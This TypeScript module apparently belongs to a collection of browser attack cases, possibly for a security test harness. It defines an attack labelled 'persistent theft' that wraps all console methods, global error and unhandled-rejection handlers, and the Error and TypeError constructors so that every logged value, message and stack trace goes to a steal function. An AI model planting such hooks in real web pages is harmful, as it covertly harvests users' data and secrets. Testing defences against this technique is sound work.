import { attack } from "../attack.js";

export default attack({
  name: "hooks the console and errors",
  threat: "persistent theft",
  target: "any",
  hook(it) {
    const text = (value: unknown) => (value instanceof Error ? `${value.message} ${value.stack}` : value);
    for (const method of ["debug", "info", "log", "warn", "error", "trace", "dir", "table"] as const) {
      const original = console[method] as (...args: unknown[]) => void;
      console[method] = (...args: unknown[]) => {
        it.steal(...args.map(text));
        original(...args);
      };
    }
    addEventListener("error", ({ message, error }) => it.steal(message, text(error)), true);
    addEventListener("unhandledrejection", ({ reason }) => it.steal(text(reason)));
    for (const name of ["Error", "TypeError"] as const) {
      window[name] = new Proxy(window[name], {
        construct(target, [message, ...rest]: [string]) {
          it.steal(message);
          return new target(message, ...rest);
        },
      }) as never;
    }
  },
});
